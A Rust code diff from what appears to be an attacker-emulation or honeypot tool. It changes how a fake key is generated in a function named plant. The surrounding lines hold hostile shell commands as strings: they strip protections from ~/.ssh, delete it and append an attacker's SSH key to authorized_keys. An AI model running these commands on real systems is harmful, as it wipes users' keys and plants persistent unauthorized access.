@@ -129,7 +129,7 @@ pub fn download(attacker: &mut Attacker) -> (String, String, String) {
 
 /// The commands that leave a key; the second writes it.
 pub fn plant(attacker: &Attacker) -> Vec<Text> {
-    let key = super::json::hex(attacker.key % 40, 340);
+    let key = super::json::hex(attacker.of_pool(40), 340);
     vec![
         "cd ~; chattr -ia .ssh; lockr -ia .ssh".into(),
         format!("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{key}== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~").into(),
